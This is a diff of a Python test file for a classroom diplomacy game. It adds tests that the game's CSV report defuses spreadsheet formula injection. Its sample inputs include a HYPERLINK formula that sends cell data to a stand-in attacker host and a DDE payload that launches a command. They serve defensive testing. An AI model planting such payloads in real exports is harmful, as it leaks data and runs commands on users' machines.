@@ -5,7 +5,12 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from game.cli import main
 from game.content.loader import SCENARIO_DIR, load_scenario_bytes
@@ -14,7 +19,14 @@ from game.engine.outcome import scores
 from game.session import narrate
 from game.session.codes import crisis_code
 from game.session.match import HUMAN, Classroom, Match, Reflection, Seat, Source
-from game.session.report import meters_csv, report_html, write_report
+from game.session.report import (
+    FORMULA_STARTS,
+    csv_cell,
+    log_document,
+    meters_csv,
+    report_html,
+    write_report,
+)
 from game.session.saves import save_match
 from tests.test_session import finish, play
 
@@ -227,8 +239,6 @@ def test_envoy_report_on_a_damaged_save_is_one_line_and_exit_1(tmp_path, capsys)
 
 
 def test_envoy_report_has_help_and_needs_a_save(capsys):
-    import pytest
-
     with pytest.raises(SystemExit) as leaving:
         main(["report", "--help"])
     assert leaving.value.code == 0
@@ -254,3 +264,60 @@ def test_envoy_report_needs_no_window(tmp_path):
     )
     assert done.returncode == 0, done.stderr
     assert (tmp_path / "out" / "report.html").exists()
+
+
+# ------------------------------------------------ spreadsheet formula injection
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Norland")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1",
+]
+
+
+def formula_match(name: str) -> Match:
+    """A short Border Incident in which Norland is called ``name``."""
+    data = (SCENARIO_DIR / "border_incident.yaml").read_bytes()
+    data = data.replace(b"    name: Norland\n", f"    name: {json.dumps(name)}\n".encode(), 1)
+    result = load_scenario_bytes(data, "formula.yaml")
+    seats = [Seat("un_envoy", HUMAN, name=name), Seat("norland_fm"), Seat("vellmark_fm")]
+    match = Match.start(
+        result.unwrap(), Source("formula.yaml", data, result.library_bytes), 3, seats
+    )
+    finish(match, 3)
+    return match
+
+
+@pytest.mark.parametrize("name", FORMULAS, ids=range(len(FORMULAS)))
+def test_a_party_named_like_a_formula_is_text_in_the_csv(name):
+    match = formula_match(name)
+    rows = list(csv.reader(io.StringIO(meters_csv(match), newline="")))
+    assert len(rows) == 1 + len(match.history) * len(match.scenario.relations)  # no row split
+    norland = [row for row in rows[1:] if "norland" in (row[3], row[4])]
+    assert norland
+    for row in rows[1:]:
+        assert not row[2].startswith(FORMULA_STARTS), row  # every text cell is defused
+        assert row[5].isdigit() and row[6].isdigit()  # and the meters are plain numbers
+    assert all(row[2].startswith("'" + name) for row in norland)
+    # The other two files keep the name as it is: JSON holds it raw, the page escapes it.
+    log = log_document(match)
+    assert json.loads(json.dumps(log))["seats"][0]["name"] == name
+    assert name in Page(report_html(match)).all_text
+
+
+@given(st.text(max_size=12))
+def test_no_csv_cell_can_start_a_formula_unless_it_is_a_number(text):
+    cell = csv_cell(text)
+    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
+        # a number such as -5 is left alone; anything else was defused
+        assert re.fullmatch(r"[+-][0-9]*\.?[0-9]*([eE][+-]?[0-9]+)?", cell), cell
+    assert cell in (text, "'" + text)
+
+
+def test_numbers_stay_numbers_in_the_csv():
+    assert [csv_cell(v) for v in (-5, "-5", "+3.5", "-1e3", 7)] == [-5, "-5", "+3.5", "-1e3", 7]
+    assert [csv_cell(v) for v in ("-", "-inf", "-1_0", "--5")] == ["'-", "'-inf", "'-1_0", "'--5"]
